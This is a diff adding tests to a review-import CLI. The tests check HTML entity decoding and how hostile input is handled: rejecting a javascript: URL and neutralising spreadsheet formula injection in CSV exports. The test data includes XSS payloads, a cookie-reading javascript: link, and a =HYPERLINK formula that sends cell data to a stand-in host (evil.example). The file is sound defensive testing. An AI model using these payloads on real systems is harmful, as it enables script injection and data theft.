@@ -1,4 +1,5 @@
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { radar, tempDir } from '../../test/cli.js';
@@ -151,6 +152,50 @@ describe('radar import / export / forget', () => {
     const out = (await radar(['export'], { cwd })).stdout;
     expect(jsonl(out)).toHaveLength(1);
     expect(out).not.toContain('Aisha');
+  });
+
+  it('reads HTML character references in imported text as the characters they stand for, however often escaped', async () => {
+    const cwd = project();
+    writeFileSync(
+      join(cwd, 'escaped.jsonl'),
+      [
+        { id: 'e1', title: 'Tea &amp; toast', body: 'Staff &amp; crew were lovely &#8211; i&amp;amp;amp;#39;m impressed &lt;3' },
+        { id: 'e2', body: 'R&D made it, AT&T delivered it, Q&A answered &copycats.' },
+      ].map((r) => JSON.stringify(r)).join('\n'),
+    );
+    expect((await radar(['import', 'escaped.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
+    const docs = jsonl((await radar(['export'], { cwd })).stdout);
+    expect(docs).toHaveLength(2);
+    expect(docs.map((d) => [d.title ?? null, d.body])).toEqual(
+      expect.arrayContaining([
+        ['Tea & toast', "Staff & crew were lovely – i'm impressed <3"],
+        [null, 'R&D made it, AT&T delivered it, Q&A answered &copycats.'],
+      ]),
+    );
+  });
+
+  it('refuses a link that is not a web address, and keeps a formula-like review from running in a spreadsheet (documents.csv, export)', async () => {
+    const cwd = project();
+    const rows = [
+      { id: 'h1', body: '<script>alert("x")</script> The kettle boils fast and the lid is sturdy.', url: 'https://shop.example/r/1' },
+      { id: 'h2', body: '[Claim your prize](javascript:alert(1)) The kettle is loud, **very** loud.', url: 'https://shop.example/r/2' },
+      { id: 'h3', body: '=HYPERLINK("http://evil.example/?x="&A1,"click") The kettle leaks at the spout.', url: 'https://shop.example/r/3' },
+      { id: 'h4', body: 'Lovely kettle, quick to boil.', url: 'javascript:alert(document.cookie)//' },
+    ];
+    writeFileSync(join(cwd, 'hostile.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n'));
+    const imported = await radar(['import', 'hostile.jsonl', '--brand', 'brewlab', '--product', 'kettle'], { cwd });
+    expect(imported.code, imported.stderr).toBe(0);
+    expect(imported.stderr).toContain('row 4: url "javascript:alert(document.cookie)//" is not an http(s) address');
+    expect((await radar(['analyze'], { cwd })).code).toBe(0);
+    const report = await radar(['report', '--format', 'csv', '--out', 'out'], { cwd });
+    expect(report.code, report.stderr).toBe(0);
+    const csv = parse(readFileSync(join(cwd, 'out', 'documents.csv'))) as string[][];
+    const exported = parse((await radar(['export', '--format', 'csv'], { cwd })).stdout) as string[][];
+    for (const table of [csv, exported]) {
+      const bodies = table.map((r) => r.at(-1)!);
+      expect(bodies.some((b) => b.startsWith("'=HYPERLINK("))).toBe(true);
+      expect(bodies.some((b) => /^[=+@-]/.test(b))).toBe(false);
+    }
   });
 
   it('forgets a person by name and site: documents gone, others kept, counts reported', async () => {
